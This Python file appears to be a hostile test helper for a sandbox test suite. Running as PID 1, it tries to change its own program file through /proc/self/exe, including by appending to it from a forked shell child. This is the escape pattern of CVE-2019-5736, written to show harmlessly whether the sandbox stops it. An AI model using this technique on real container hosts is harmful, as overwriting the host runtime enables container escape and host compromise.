"""An agent that tries to change the file of its own program, from where that lies outside (CVE-2019-5736), and tells how it was started.

It does no harm to the program where it can: what it does shows in the file's times and size.
"""

from __future__ import annotations

import contextlib
import json
import os
import sys
import time
from collections.abc import Callable

from netless_lab.sandbox.pid1 import Room

ENTRY = "hostile.helpers.climber:main"


def main(room: Room) -> None:
    """PID 1: tries all it can, then says in its log what Python it is and what it was noted to do without."""
    program = os.open("/proc/self/exe", os.O_PATH)
    changes: tuple[Callable[[], object], ...] = (
        lambda: os.chmod("/proc/self/exe", os.stat("/proc/self/exe").st_mode & 0o7777),
        lambda: os.utime("/proc/self/exe"),
        lambda: _write_by_another(program),
    )
    for change in changes:
        with contextlib.suppress(OSError):
            change()
    print(json.dumps([sys.executable, sys.prefix, sys.base_prefix, sys.exec_prefix, os.__file__, room.notes]), file=sys.stderr, flush=True)
    room.ready()
    time.sleep(1000)


def _write_by_another(program: int) -> None:
    """A child that has become another program: the file is not busy as a program of this one's then."""
    if os.fork() == 0:
        os.set_inheritable(program, True)
        os.execv("/bin/sh", ["sh", "-c", f"echo >> /proc/self/fd/{program}"])
    os.wait()
